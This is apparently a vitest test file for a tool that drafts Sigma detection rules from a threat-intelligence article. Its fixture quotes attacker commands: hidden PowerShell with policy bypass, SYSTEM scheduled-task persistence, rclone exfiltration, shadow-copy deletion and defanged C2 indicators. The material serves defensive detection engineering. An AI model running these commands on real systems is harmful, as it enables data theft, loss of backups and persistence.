import { describe, expect, it } from 'vitest';
import { extractObservables } from '../../src/extract-observables.ts';
import { findTechniques } from '../../src/find-techniques.ts';
import { checkSigma } from '../../src/sigma/check-sigma.ts';
import { compileDetection } from '../../src/sigma/evaluate.ts';
import { draftRules } from '../../src/sigma/draft/draft-rules.ts';

const article = String.raw`The intruders ran these commands:

powershell.exe -nop -w hidden -ep bypass -File C:\ProgramData\upd.ps1
schtasks /create /tn "\Microsoft\Windows\UpdSvc" /tr C:\ProgramData\svch0st.exe /sc onlogon /ru SYSTEM
rclone.exe copy D:\data remote:exfil --transfers 32 --no-check-certificate
rclone.exe sync E:\finance remote:exfil --max-age 30d --ignore-existing
vssadmin delete shadows /all /quiet
whoami /all

Persistence was set at HKCU\Software\Microsoft\Windows\CurrentVersion\Run\SvcUpd and a service named "WinDefUpd" was installed.
The scheduled task named "OneDriveSync Update" started it. It used the named pipe \\.\pipe\msagent_4f and the mutex Global\abc_123.
winword.exe -> cmd.exe -> powershell.exe. Files: C:\ProgramData\svch0st.exe, C:\Windows\System32\cmd.exe.
C2: evil-update[.]com, hxxps://cdn.bad-host[.]net/a, 203.0.113[.]9,
SHA256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08. See https://www.microsoft.com/en-us/security for more.`;
const source = {
  url: 'https://blog.example/bear',
  title: 'Bear "on" the run: part 2 # not a comment',
  date: '2026-11-20',
  mentions: extractObservables(article),
  techniques: findTechniques(article),
};
const { drafts, unused } = draftRules(source);
const of = (part: string) => drafts.find(({ rule }) => rule.title.includes(part));

describe('drafts from an article', () => {
  it('makes one for each kind of evidence', () => {
    expect(
      drafts
        .map(({ rule }) => rule.logsource.category ?? rule.logsource.service ?? '')
        .toSorted((a, b) => a.localeCompare(b)),
    ).toEqual([
      'dns_query',
      'file_event',
      'network_connection',
      'pipe_created',
      'process_creation',
      'process_creation',
      'process_creation',
      'process_creation',
      'process_creation',
      'process_creation',
      'registry_set',
      'security',
      'system',
    ]);
  });

  it('each fires on its own evidence and on no everyday event', () => {
    for (const { rule, event, benign, yaml } of drafts) {
      expect(compileDetection(rule.expression).matches(event), yaml).toBe(true);
      expect(benign.tested, rule.title).toBeGreaterThan(0);
      expect(benign.fired, rule.title).toEqual([]);
    }
  });

  it('each is experimental, refers to the article, and has nothing to be found fault with', () => {
    for (const { yaml, iocOnly } of drafts) {
      const { rules, diagnostics } = checkSigma(yaml);
      expect(rules).toMatchObject([{ status: 'experimental' }]);
      expect(yaml).toContain('https://blog.example/bear');
      const codes = diagnostics.filter(({ severity }) => severity !== 'info').map(({ code }) => code);
      expect(codes, yaml).toEqual(iocOnly ? ['ioc-only'] : []);
    }
  });

  it('says of a draft that knows only indicators that it does', () => {
    const only = drafts.filter(({ iocOnly }) => iocOnly);
    expect(only.map(({ rule }) => rule.logsource.category)).toEqual([
      'dns_query',
      'network_connection',
      'process_creation',
    ]);
    expect(only.every(({ yaml }) => yaml.includes('It knows only indicators of one campaign'))).toBe(true);
  });

  it('keeps what would stay in the next intrusion: options, not file names', () => {
    expect(of('Powershell With')?.yaml).toContain('bypass');
    expect(of('Powershell With')?.yaml).not.toContain('upd.ps1');
    expect(of('Rclone')?.yaml).toContain('1 of selection_cli_*');
  });

  it('tags a rule with the techniques of its own evidence', () => {
    expect(of('Vssadmin')?.rule.tags).toEqual(['attack.impact', 'attack.t1490']);
    expect(of('Registry')?.rule.tags).toContain('attack.t1547.001');
  });

  it('names all that it made no rule of, with the reason', () => {
    const used = new Set(drafts.flatMap(({ evidence }) => evidence.map(({ type, value }) => `${type} ${value}`)));
    const named = new Set(unused.map(({ mention: { type, value } }) => `${type} ${value}`));
    const lost = source.mentions.filter(
      ({ type, value }) => !used.has(`${type} ${value}`) && !named.has(`${type} ${value}`),
    );
    expect(lost).toEqual([]);
    expect(unused.every(({ reason }) => reason.length > 10)).toBe(true);
    const reasonOf = (value: string) => unused.find(({ mention }) => mention.value === value)?.reason;
    expect(reasonOf('whoami /all')).toContain('everyday use');
    expect(reasonOf('www.microsoft.com')).toContain('did not defang');
    expect(reasonOf('C:\\Windows\\System32\\cmd.exe')).toContain('every machine');
  });

  it('gives the same evidence the same id, wherever it was read', () => {
    const again = draftRules({ ...source, url: 'https://other.example/', title: 'Other', date: '2026-12-01' });
    expect(again.drafts.map(({ rule }) => rule.id)).toEqual(drafts.map(({ rule }) => rule.id));
    expect(new Set(drafts.map(({ rule }) => rule.id)).size).toBe(drafts.length);
  });

  it('makes of an everyday command no rule at all', () => {
    const everyday = 'Run:\n\nschtasks.exe /query /fo LIST /v\n';
    const found = draftRules({ ...source, mentions: extractObservables(everyday), techniques: [] });
    expect(found.drafts).toEqual([]);
    expect(found.unused.find(({ mention }) => mention.type === 'command-line')?.reason).toBe(
      'The rule made of it fires on everyday events.',
    );
  });
});
